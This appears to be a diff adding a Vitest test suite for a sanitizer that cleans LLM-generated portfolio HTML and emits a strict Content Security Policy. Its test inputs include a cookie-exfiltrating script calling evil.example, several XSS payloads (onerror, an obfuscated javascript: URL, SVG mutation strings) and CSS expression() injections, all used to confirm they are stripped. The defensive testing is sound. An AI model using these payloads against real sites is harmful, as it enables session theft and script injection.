@@ -0,0 +1,166 @@
+import { describe, it, expect } from 'vitest'
+import type { LinkedInProfile } from '../lib/linkedin/import'
+import { DEFAULT_SANITIZER_POLICY, OutputSanitizer, type SanitizerPolicy } from '../lib/security/output-sanitizer'
+import { AVAILABLE_TEMPLATES } from '../lib/templates'
+import { createPortfolioRenderer } from '../lib/templates/renderer'
+
+function sanitizer(policy: Partial<SanitizerPolicy> = {}) {
+  const events: { userId: string; event: string; details: any }[] = []
+  const security = { logSecurityEvent: (userId: string, event: string, details: any) => { events.push({ userId, event, details }) } }
+  return { events, sanitizer: new OutputSanitizer(security, { ...DEFAULT_SANITIZER_POLICY, ...policy }) }
+}
+
+const profile: LinkedInProfile = {
+  personal: { name: 'Jane Doe', headline: 'Staff Engineer', location: 'Berlin', summary: 'I build developer tools.' },
+  contact: { email: 'jane@example.com', linkedin: 'https://www.linkedin.com/in/janedoe' },
+  experience: [],
+  education: [],
+  skills: ['TypeScript'],
+  certifications: [],
+  languages: [],
+  projects: [],
+  volunteer: [],
+}
+
+describe('LLM output sanitizer', () => {
+  it('leaves renderer output untouched apart from serialisation', async () => {
+    const { sanitizer: clean, events } = sanitizer()
+    for (const template of AVAILABLE_TEMPLATES) {
+      const { html } = createPortfolioRenderer().render(profile, template, { seo: { url: 'https://janedoe.dev/' } })
+      const result = await clean.sanitizeHtml(html, 'user-1')
+
+      expect(result.findings).toEqual([])
+      expect(result.html).toContain('<script type="application/ld+json">{"@context":"https://schema.org"')
+      expect(result.html.startsWith('<!DOCTYPE html>\n<html lang="en">')).toBe(true)
+    }
+    expect(events).toEqual([])
+  })
+
+  it('strips scripts, event handlers and dangerous URLs and logs each removal', async () => {
+    const { sanitizer: clean, events } = sanitizer()
+    const result = await clean.sanitizeHtml([
+      '<main onclick="steal()">',
+      '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
+      '<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>',
+      '<a href="java&#9;script:alert(1)">Me</a>',
+      '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x">',
+      '<object data="x.swf"><p>Fallback</p></object>',
+      '<center>Kept text</center>',
+      '</main>',
+    ].join('\n'), 'user-1')
+
+    expect(result.html).toBe([
+      '<main>',
+      '',
+      '',
+      '<a>Me</a>',
+      '<img alt="x">',
+      '',
+      'Kept text',
+      '</main>',
+    ].join('\n'))
+    expect(result.findings.map(finding => finding.reason)).toEqual([
+      'event_handler', 'inline_script', 'third_party_script', 'unsafe_url', 'unsafe_url', 'disallowed_tag', 'disallowed_tag',
+    ])
+    expect(events).toHaveLength(7)
+    expect(events[0]).toEqual({
+      userId: 'user-1',
+      event: 'llm_output_sanitized',
+      details: { action: 'removed', reason: 'event_handler', detail: 'onclick on <main>', line: 1 },
+    })
+  })
+
+  it('treats style and title inside SVG as markup, the way browsers parse them', async () => {
+    const { sanitizer: clean } = sanitizer()
+
+    const styled = await clean.sanitizeHtml('<div><svg><style><img src=x onerror=alert(1)></style></svg></div>', 'user-1')
+    expect(styled.html).toBe('<div><svg></svg><img src="x"></div>')
+    expect(styled.findings.map(finding => [finding.reason, finding.detail])).toEqual([
+      ['disallowed_tag', '<style> inside <svg>'],
+      ['event_handler', 'onerror on <img>'],
+    ])
+
+    const titled = await clean.sanitizeHtml('<svg><title><img src=x onerror=alert(1)>Logo</title></svg>', 'user-1')
+    expect(titled.html).toBe('<svg><title><img src="x">Logo</title></svg>')
+    expect(titled.findings.map(finding => finding.reason)).toEqual(['event_handler'])
+  })
+
+  it('leaves SVG content at HTML tags, so a title there is raw text again', async () => {
+    const { sanitizer: clean } = sanitizer()
+    const result = await clean.sanitizeHtml('<svg><p><title><img title="</title><img src=x onerror=alert(1)>"></title></p></svg>', 'user-1')
+
+    expect(result.html).toBe('<svg></svg><p><title>&lt;img title="</title><img src="x">"&gt;</p>')
+    expect(result.findings.map(finding => finding.reason)).toEqual(['event_handler'])
+  })
+
+  it('escapes markup characters in attribute values', async () => {
+    const { sanitizer: clean } = sanitizer()
+    const result = await clean.sanitizeHtml('<img alt="</title><img src=x onerror=alert(1)>">', 'user-1')
+
+    expect(result.html).toBe('<img alt="&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;">')
+  })
+
+  it('only keeps approved fonts, stylesheets and frames', async () => {
+    const { sanitizer: clean } = sanitizer({ fontHosts: ['fonts.gstatic.com'] })
+    const result = await clean.sanitizeHtml([
+      '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter">',
+      '<link rel="preconnect" href="https://fonts.gstatic.com">',
+      '<style>@import url("https://cdn.example.com/x.css"); @font-face { src: url(https://fonts.gstatic.com/inter.woff2); }',
+      '@font-face { src: url(https://fonts.bunny.net/x.woff2); } .hero { background: url(https://images.example.com/bg.jpg); }</style>',
+      '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Talk"></iframe>',
+      '<iframe src="https://ads.example.com/frame"></iframe>',
+    ].join('\n'), 'user-1')
+
+    expect(result.findings.filter(f => f.action === 'removed').map(f => [f.reason, f.detail])).toEqual([
+      ['third_party_font', 'https://fonts.googleapis.com/css2?family=Inter'],
+      ['disallowed_tag', '<link rel="preconnect" href="https://fonts.gstatic.com">'],
+      ['unsafe_css', '@import url("https://cdn.example.com/x.css");'],
+      ['third_party_font', 'https://fonts.bunny.net/x.woff2'],
+      ['third_party_frame', 'https://ads.example.com/frame'],
+    ])
+    expect(result.html).toContain('src: url(https://fonts.gstatic.com/inter.woff2)')
+    expect(result.html).toContain('@font-face { src: none; }')
+    expect(result.html).toContain('<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Talk" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"')
+    expect(result.externalResources).toEqual([
+      'https://fonts.gstatic.com/inter.woff2',
+      'https://images.example.com/bg.jpg',
+      'https://www.youtube-nocookie.com/embed/abc',
+    ])
+  })
+
+  it('upgrades insecure URLs and flags or rewrites external images', async () => {
+    const flagged = await sanitizer().sanitizer.sanitizeHtml('<img src="http://cdn.example.com/me.jpg" alt="Me">', 'user-1')
+    expect(flagged.html).toBe('<img src="https://cdn.example.com/me.jpg" alt="Me">')
+    expect(flagged.findings.map(f => [f.action, f.reason])).toEqual([['rewritten', 'insecure_url'], ['flagged', 'external_resource']])
+
+    const proxied = await sanitizer({
+      rewriteImageUrl: url => `https://img.appvantix.com/?url=${encodeURIComponent(url)}`,
+    }).sanitizer.sanitizeHtml('<img src="https://cdn.example.com/me.jpg" srcset="https://cdn.example.com/me@2x.jpg 2x, /me.jpg 1x" alt="Me">', 'user-1')
+    expect(proxied.html).toContain('src="https://img.appvantix.com/?url=https%3A%2F%2Fcdn.example.com%2Fme.jpg"')
+    expect(proxied.html).toContain('srcset="https://img.appvantix.com/?url=https%3A%2F%2Fcdn.example.com%2Fme%402x.jpg 2x, /me.jpg 1x"')
+    expect(proxied.csp).toContain('img-src \'self\' data: https://img.appvantix.com;')
+  })
+
+  it('emits a strict CSP that allows exactly what the page uses', async () => {
+    const { sanitizer: clean } = sanitizer()
+    const page = await clean.sanitizeHtml('<style>body { color: red; }</style><p style="color: blue">Hi</p><img src="https://cdn.example.com/a.png" alt="">', 'user-1')
+    const directives = page.csp.split('; ')
+
+    expect(directives).toContain("default-src 'none'")
+    expect(directives).toContain("script-src 'none'")
+    expect(directives).toContainEqual(expect.stringMatching(/^style-src 'self' 'sha256-[A-Za-z0-9+/]+=*'$/))
+    expect(directives).toContain("style-src-attr 'unsafe-inline'")
+    expect(directives).toContain("img-src 'self' data: https://cdn.example.com")
+    expect(directives).toContain("frame-src 'none'")
+    expect(directives).toContain("connect-src 'none'")
+    expect(directives).toContain('upgrade-insecure-requests')
+  })
+
+  it('sanitises standalone stylesheets', () => {
+    const { sanitizer: clean, events } = sanitizer()
+    const result = clean.sanitizeCss('.a { width: expression(alert(1)); background: url(javascript:alert(1)); }', 'user-1')
+
+    expect(result.css).not.toMatch(/expression\(|javascript:/)
+    expect(events.map(event => event.details.reason)).toEqual(['unsafe_css', 'unsafe_css'])
+  })
+})